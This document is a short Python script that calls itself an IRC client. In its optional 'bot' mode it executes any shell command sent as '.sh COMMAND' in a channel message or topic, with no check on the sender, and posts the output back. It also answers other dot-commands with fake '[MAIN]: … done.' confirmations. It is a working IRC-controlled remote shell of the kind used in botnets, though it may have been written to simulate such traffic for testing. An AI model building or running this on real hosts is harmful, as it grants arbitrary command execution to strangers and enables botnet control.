#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""irc_talk.py FROM ADDRESS PORT NICK [bot]: an IRC client (RFC 2812). Lines of standard input are sent as they come, "wait S" waits.

bot: runs what `.sh COMMAND` asks for and says its output back; says what it did of other orders that begin with a dot.
"""
import re
import socket
import subprocess
import sys
import threading
import time


def say(link, line):
    link.sendall(line.encode("utf-8", "replace")[:500] + b"\r\n")


def obey(link, to, text):
    if text.startswith(".sh "):
        out = subprocess.run(["sh", "-c", text[4:]], capture_output=True, text=True, timeout=5, check=False).stdout
        for line in out.splitlines()[:20]:
            say(link, "PRIVMSG %s :%s" % (to, line or " "))
    else:
        say(link, "PRIVMSG %s :[MAIN]: %s done." % (to, text.split()[0][1:]))


def listen(link, is_bot):
    for raw in link.makefile("r", encoding="utf-8", errors="replace"):
        line = raw.rstrip("\r\n")
        if line.startswith("PING"):
            say(link, "PONG" + line[4:])
        found = re.match(r":\S+ (?:PRIVMSG|332 \S+) (\S+) :(\..+)", line)
        if found and is_bot:
            obey(link, found.group(1), found.group(2))


def main():
    if len(sys.argv) not in (5, 6):
        sys.exit(__doc__)
    source, address, port, nick = sys.argv[1:5]
    link = socket.create_connection((address, int(port)), 5, (source, 0))
    link.settimeout(60)
    threading.Thread(target=listen, args=(link, sys.argv[5:] == ["bot"]), daemon=True).start()
    say(link, "NICK " + nick)
    say(link, "USER %s 0 * :%s" % (re.sub(r"\W", "", nick).lower(), nick))
    time.sleep(1.2)
    for line in sys.stdin:
        if line.startswith("wait "):
            time.sleep(float(line[5:]))
        elif line.strip():
            say(link, line.rstrip("\n"))
    say(link, "QUIT :bye")
    time.sleep(0.3)
    link.close()


if __name__ == "__main__":
    main()
